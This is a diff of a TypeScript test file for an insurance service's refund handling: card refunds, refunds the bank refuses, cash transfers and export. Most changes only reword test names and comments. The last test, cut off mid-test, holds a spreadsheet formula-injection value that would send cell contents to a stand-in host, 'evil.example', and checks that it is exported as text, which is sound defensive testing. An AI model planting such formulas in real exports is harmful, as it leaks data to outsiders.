@@ -44,7 +44,7 @@ async function listed(contract: Draft): Promise<Row | undefined> {
   return rows.find(({ addendumNumber }) => addendumNumber.startsWith(contract.policyNumber));
 }
 
-/** Advances the acquirer's time until the condition is met, then turns it back. */
+/** Advances the acquirer's clock until the condition is met, then restores it. */
 async function untilSettled(isSo: () => Promise<boolean>): Promise<void> {
   const now = service.clock.now().toISOString();
   await until(async () => {
@@ -55,7 +55,7 @@ async function untilSettled(isSo: () => Promise<boolean>): Promise<void> {
   service.clock.set(now);
 }
 
-/** A contract paid by card and terminated. */
+/** Sells a contract that is paid by card, and terminates it. */
 async function endedAfterCard(card = goodCard) {
   const contract = await savedDraft(partner);
   const link = await openLink(partner, contract, 'CARD');
@@ -66,7 +66,7 @@ async function endedAfterCard(card = goodCard) {
   return { contract, link, refund: Number(refund).toFixed(2) };
 }
 
-test('a card payment is refunded to the card and recorded in the books', async () => {
+test('a refund of a card payment is made to the card and recorded', async () => {
   const { contract, link, refund } = await endedAfterCard();
   const row = await listed(contract);
   assert.ok(row);
@@ -91,7 +91,7 @@ test('a card payment is refunded to the card and recorded in the books', async (
   assert.match(again.stderr, /nothing is left of refund \d+/);
 });
 
-test("a refund the client's bank refuses is left to staff as a transfer", async () => {
+test("a refund that the client's bank refuses is listed for staff as a transfer", async () => {
   const { contract, link, refund } = await endedAfterCard('4000000000005126');
   const row = await listed(contract);
   assert.ok(row);
@@ -104,7 +104,7 @@ test("a refund the client's bank refuses is left to staff as a transfer", async 
   assert.equal(await listed(contract), undefined);
 });
 
-test('a cash payment is refunded by transfer: a list for the bank, and a record when done', async () => {
+test('a cash payment is refunded by transfer, with a list for the bank and a record of the payment order', async () => {
   const contract = await soldContract(partner);
   const { refund } = await terminate(partner, contract);
   const row = await listed(contract);
@@ -163,7 +163,7 @@ test('a refund is due in ten working days, and held while a claim is decided', a
   assert.equal((await command('transferred', row.id, '--document', '20')).code, 0);
 });
 
-test('a surcharge paid by card is refunded first, the rest from the premium', async () => {
+test('a refund is taken from a surcharge paid by card first, and the rest from the premium', async () => {
   const contract = await soldContract(partner);
   const { premiumDifference } = await change(partner, contract, youngDriverAdded);
   const link = await openLink(partner, contract, 'SBP', { amount: premiumDifference ?? 0 }, 2);
@@ -181,7 +181,7 @@ test('a surcharge paid by card is refunded first, the rest from the premium', as
   assert.equal((await listed(contract))?.toTransfer, left);
 });
 
-test('a refund the bank refuses is not marked done because of an earlier partial refund', async () => {
+test('a refund that the bank refuses is not recorded as done because of an earlier partial refund', async () => {
   const contract = await savedDraft(partner, { set: { 'insuredObject.osago.purpose': 'TAXI' } });
   const link = await openLink(partner, contract, 'CARD');
   await browser.card(link, goodCard);
@@ -192,7 +192,7 @@ test('a refund the bank refuses is not marked done because of an earlier partial
   assert.ok(first);
   assert.equal((await command('acquirer', first.id)).code, 0);
   await untilSettled(async () => (await listed(contract)) === undefined);
-  // A partial refund made in the bank's own interface leaves less than the refund due.
+  // Imitates a partial refund made in the bank's own interface, after which the payment is less than the refund due.
   await service.pool.query(
     `update sandbox_bank_payments set refunded_kopecks = refunded_kopecks + 600000
       where payment_id::text in (select acquirer_payment_id from acquirer_money where order_id = $1)`,
@@ -206,7 +206,7 @@ test('a refund the bank refuses is not marked done because of an earlier partial
   assert.equal((await listed(contract))?.toTransfer, Number(refund).toFixed(2));
 });
 
-test('an unknown number and a missing number are refused', async () => {
+test('refund acquirer and refund transferred refuse unknown numbers and invalid document numbers', async () => {
   for (const words of [
     ['acquirer', '999999'],
     ['acquirer', 'x'],
@@ -219,7 +219,7 @@ test('an unknown number and a missing number are refused', async () => {
   }
 });
 
-test('a name that begins like a formula is exported as text', async () => {
+test('refund transfers writes a name that begins like a formula as text', async () => {
   const formula = '=HYPERLINK("https://evil.example/?"&A1;"ООО")';
   const contract = await soldContract(partner, {
     holderType: 'corporate',
